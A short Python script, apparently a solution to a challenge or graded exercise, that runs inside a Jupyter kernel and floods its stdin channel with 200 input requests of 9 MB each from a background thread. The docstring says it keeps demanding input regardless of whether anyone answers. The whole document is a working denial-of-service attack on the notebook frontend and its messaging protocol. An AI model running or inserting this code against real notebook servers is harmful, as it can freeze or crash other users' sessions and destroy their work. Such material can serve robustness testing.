"""Ask for input without end, 9 MB at a time, past all that says that nobody answers.

cell: try-1-1
rest: solved
points: all
"""

import threading
import time

kernel = get_ipython().kernel
parent, ident = kernel.get_parent(), kernel._parent_ident["shell"]
asked = {"prompt": "x" * 9_000_000, "password": False}


def flood():
    for _ in range(200):
        kernel.session.send(kernel.stdin_socket, "input_request", asked, parent, ident=ident)


threading.Thread(target=flood, daemon=True).start()
time.sleep(3)
